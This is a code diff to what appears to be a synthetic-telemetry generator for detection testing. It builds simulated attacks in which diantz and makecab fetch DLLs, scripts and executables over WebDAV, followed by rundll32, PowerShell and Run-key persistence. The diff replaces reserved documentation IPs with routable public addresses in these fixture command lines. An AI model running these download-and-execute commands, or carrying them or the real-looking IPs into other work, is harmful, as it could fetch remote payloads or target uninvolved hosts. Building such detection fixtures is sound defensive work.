@@ -97,9 +97,9 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
     add(Job("webdav_port_ip_diantz", "attack", "malicious",
             "diantz reads a DLL from a WebDAV server on an IP literal and port 8080; rundll32 runs it",
             "ws", maker="diantz", image=DIANTZ,
-            command="diantz.exe \\\\203.0.113.45@8080\\share\\payload.dll C:\\Users\\Public\\p.cab",
-            sources=[Source("webdav", "203.0.113.45", "203.0.113.45", 8080, False, "", "/share/payload.dll")],
-            cab="C:\\Users\\Public\\p.cab", zone_url="http://203.0.113.45:8080/share/payload.dll",
+            command="diantz.exe \\\\185.62.190.41@8080\\share\\payload.dll C:\\Users\\Public\\p.cab",
+            sources=[Source("webdav", "185.62.190.41", "185.62.190.41", 8080, False, "", "/share/payload.dll")],
+            cab="C:\\Users\\Public\\p.cab", zone_url="http://185.62.190.41:8080/share/payload.dll",
             followon=("extrac32", "exec_rundll32", "runkey")), h)
     h = pick(2)
     add(Job("webdav_ssl443_powershell", "attack", "malicious",
@@ -107,7 +107,7 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
             "ws", parent="powershell",
             command="\"C:\\Windows\\system32\\makecab.exe\" \\\\files.example-storage.com@SSL@443\\DavWWWRoot\\a\\stage.ps1 "
                     "C:\\ProgramData\\stage.cab",
-            sources=[Source("webdav", "files.example-storage.com", "198.51.100.14", 443, True, "", "/a/stage.ps1")],
+            sources=[Source("webdav", "files.example-storage.com", "172.67.141.20", 443, True, "", "/a/stage.ps1")],
             cab="C:\\ProgramData\\stage.cab", zone_url="https://files.example-storage.com/a/stage.ps1",
             followon=("expand", "exec_ps")), h)
     h = pick(3)
@@ -141,11 +141,11 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
     ddf2 = ("C:\\ProgramData\\x.ddf",
             ".Set CabinetNameTemplate=kit.cab\r\n.Set DiskDirectoryTemplate=C:\\ProgramData\r\n"
             ".Set Compress=on\r\n"
-            + "".join(f"\\\\192.0.2.80@SSL\\DavWWWRoot\\kit\\{n}\r\n" for n in kit))
+            + "".join(f"\\\\45.61.136.80@SSL\\DavWWWRoot\\kit\\{n}\r\n" for n in kit))
     add(Job("ddf_lowercase_f_bulk_webdav", "attack", "malicious",
             "diantz -f with a DDF listing twelve files from a WebDAV IP literal over SSL",
             "ws", maker="diantz", image=DIANTZ, parent="wscript", command="diantz -f C:\\ProgramData\\x.ddf",
-            sources=[Source("webdav", "192.0.2.80", "192.0.2.80", 443, True, "", f"/kit/{n}") for n in kit],
+            sources=[Source("webdav", "45.61.136.80", "45.61.136.80", 443, True, "", f"/kit/{n}") for n in kit],
             cab="C:\\ProgramData\\kit.cab", ddf=ddf2), h)
     h = pick(7)
     add(Job("define_sourcedir_smb", "attack", "suspicious",
@@ -164,9 +164,9 @@ def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
     add(Job("renamed_makecab", "attack", "malicious",
             "a renamed copy of makecab (OriginalFileName MAKECAB.EXE) outside System32 pulls over WebDAV",
             "ws", image="C:\\Users\\Public\\svc.exe", original="MAKECAB.EXE",
-            command="C:\\Users\\Public\\svc.exe \\\\198.51.100.23@SSL\\DavWWWRoot\\x.exe C:\\Users\\Public\\x.cab",
-            sources=[Source("webdav", "198.51.100.23", "198.51.100.23", 443, True, "", "/x.exe")],
-            cab="C:\\Users\\Public\\x.cab", zone_url="https://198.51.100.23/x.exe"), h)
+            command="C:\\Users\\Public\\svc.exe \\\\91.243.59.12@SSL\\DavWWWRoot\\x.exe C:\\Users\\Public\\x.cab",
+            sources=[Source("webdav", "91.243.59.12", "91.243.59.12", 443, True, "", "/x.exe")],
+            cab="C:\\Users\\Public\\x.cab", zone_url="https://91.243.59.12/x.exe"), h)
     h = pick(10)
     add(Job("renamed_diantz_mshta", "attack", "malicious",
             "mshta launches a renamed diantz (OriginalFileName DIANTZ.EXE) reading from an external SMB host",
@@ -378,13 +378,13 @@ def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.
         act.chunk.events.append(sysmon.file_create(ts - 1500, parent, job.ddf[0]))
         store.put(h.name, job.ddf[0], job.ddf[1].encode(), "ddf")
     if job.mapped:
-        drive, server, share = job.mapped
-        net = act.spawn(parent, f"{SYSTEM32}\\net.exe", f"net use {drive} \\\\{server}\\{share}", ts - 4000)
-        act.spawn(net, f"{SYSTEM32}\\net1.exe", f"C:\\Windows\\system32\\net1 use {drive} \\\\{server}\\{share}",
+        drive, srv, share = job.mapped
+        net = act.spawn(parent, f"{SYSTEM32}\\net.exe", f"net use {drive} \\\\{srv}\\{share}", ts - 4000)
+        act.spawn(net, f"{SYSTEM32}\\net1.exe", f"C:\\Windows\\system32\\net1 use {drive} \\\\{srv}\\{share}",
                   ts - 3980)
         fs = act.fleet.fileserver
-        act.lookup(net, ts - 3900, server.lower(), [fs.ip])
-        act.smb_read(ts - 3800, fs, fs.ip, server, share, "desktop.ini", 282)
+        act.lookup(net, ts - 3900, srv.lower(), [fs.ip])
+        act.smb_read(ts - 3800, fs, fs.ip, srv, share, "desktop.ini", 282)
     cwd = parent.cwd
     mk = act.spawn(parent, job.image, job.command, ts, cwd=cwd, original=job.original)
     t = ts + 150
